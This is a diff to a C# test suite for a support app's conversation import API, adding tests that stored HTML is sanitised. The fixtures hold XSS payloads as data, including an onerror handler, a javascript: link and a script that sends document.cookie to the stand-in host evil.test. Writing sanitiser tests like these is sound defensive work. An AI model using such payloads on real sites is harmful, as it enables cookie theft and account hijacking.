@@ -56,7 +56,7 @@ public abstract class ImportApiTests(RapportApp app)
             Assert.Equal(c.CustomerId, messages[0].AuthorCustomerId);
             Assert.Equal(agent.Id, messages[2].AuthorUserId);
             Assert.Equal("Your parcel is on its way.\nSorry!", messages[2].BodyText);
-            Assert.Null(messages[2].BodyHtml);
+            Assert.Equal("<p>Your parcel is <b>on its way</b>.</p><p>Sorry!</p>", messages[2].BodyHtml);
 
             var log = await db.Activities.Where(a => a.ConversationId == c.Id).OrderBy(a => a.OccurredAt).ThenBy(a => a.Id).ToListAsync();
             var created = log.First(a => a.Kind == ActivityKinds.ConversationCreated);
@@ -76,6 +76,59 @@ public abstract class ImportApiTests(RapportApp app)
             var customerCreated = await db.Activities.SingleAsync(a => a.CustomerId == c.CustomerId && a.Kind == ActivityKinds.CustomerCreated);
             Assert.Equal(Utc("2025-03-01T06:00:00"), customerCreated.OccurredAt);
         });
+    }
+
+    [Fact]
+    public async Task ImportedHtmlIsStoredSanitisedWithItsTextKept()
+    {
+        var admin = await app.CreateAdminAsync();
+        var (agent, team) = await CreateAgentAndTeamAsync();
+        var id = Unique("ext");
+        var line = Line(id, $"{Unique("reza")}@example.test", agent, team, messages:
+        [
+            new
+            {
+                kind = "inbound",
+                body_html = "<div onclick=\"steal()\">My <b>invoice</b> is wrong<img src=x onerror=\"alert(1)\"></div>"
+                    + "<script>document.location='https://evil.test/?'+document.cookie</script><p><a href=\"javascript:alert(2)\">see here</a></p>",
+                created_at = "2025-05-01T09:00:00Z",
+            },
+            new { kind = "outbound", author = agent.Email, body_text = "Fixed, sorry.", body_html = "<p>Fixed, <i>sorry</i>.</p>", created_at = "2025-05-01T10:00:00Z" },
+        ]);
+
+        var body = await PostLinesAsync(admin.Client, line);
+
+        Assert.True(body["imported"]!.GetValue<int>() == 1, body.ToJsonString());
+        await app.WithDbAsync(async db =>
+        {
+            var conversationId = await db.Conversations.Where(c => c.ExternalId == id).Select(c => c.Id).SingleAsync();
+            var messages = await db.Messages.Where(m => m.ConversationId == conversationId).OrderBy(m => m.CreatedAt).ToListAsync();
+            var inbound = messages[0];
+            Assert.NotNull(inbound.BodyHtml);
+            foreach (var gone in new[] { "script", "onerror", "onclick", "javascript:", "evil.test", "<img" })
+            {
+                Assert.DoesNotContain(gone, inbound.BodyHtml, StringComparison.OrdinalIgnoreCase);
+            }
+            Assert.Contains("<b>invoice</b>", inbound.BodyHtml, StringComparison.Ordinal);
+            Assert.Equal("My invoice is wrong\nsee here", inbound.BodyText);
+            Assert.Equal("Fixed, sorry.", messages[1].BodyText);
+            Assert.Equal("<p>Fixed, <i>sorry</i>.</p>", messages[1].BodyHtml);
+        });
+    }
+
+    [Fact]
+    public async Task AnHtmlBodyWithNoTextLeftAfterSanitisingFailsTheLine()
+    {
+        var admin = await app.CreateAdminAsync();
+        var line = Line(Unique("ext"), $"{Unique("nima")}@example.test", (TestUser?)null, null, messages:
+        [
+            new { kind = "inbound", body_html = "<script>alert(1)</script>", created_at = "2025-05-01T09:00:00Z" },
+        ]);
+
+        var body = await PostLinesAsync(admin.Client, line);
+
+        Assert.True(body["failed_count"]!.GetValue<int>() == 1, body.ToJsonString());
+        Assert.Contains("messages[0].body_text", body.ToJsonString(), StringComparison.Ordinal);
     }
 
     [Fact]
